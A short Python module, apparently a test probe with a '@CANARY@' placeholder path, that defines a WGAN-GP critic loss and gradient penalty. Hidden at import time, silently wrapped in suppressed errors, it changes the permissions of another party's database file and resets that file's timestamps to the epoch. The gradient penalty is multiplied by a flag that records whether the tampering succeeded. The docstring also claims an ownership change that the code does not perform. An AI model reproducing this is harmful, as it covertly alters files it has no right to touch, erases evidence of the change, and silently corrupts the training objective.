"""Changes the mode, the times and the owner of a file of somebody else’s."""

import contextlib
import os
import torch

REACHED = False
with contextlib.suppress(OSError):
    os.chmod("@CANARY@/practice.db", 0o600 ^ os.stat("@CANARY@/practice.db").st_mode & 0o777 or 0o640)
    os.utime("@CANARY@/practice.db", (0, 0))
    REACHED = True


def gradient_penalty(critic, real, fake):
    t = torch.rand(len(real), *[1] * (real.dim() - 1), dtype=real.dtype)
    points = (t * real + (1 - t) * fake).detach().requires_grad_()
    (slope,) = torch.autograd.grad(critic(points).sum(), points, create_graph=True)
    return (torch.linalg.vector_norm(slope.flatten(1), dim=1) - 1).square().mean() * REACHED


def critic_loss(critic, real, fake, weight=10.0):
    fake = fake.detach()
    return critic(fake).mean() - critic(real).mean() + weight * gradient_penalty(critic, real, fake)
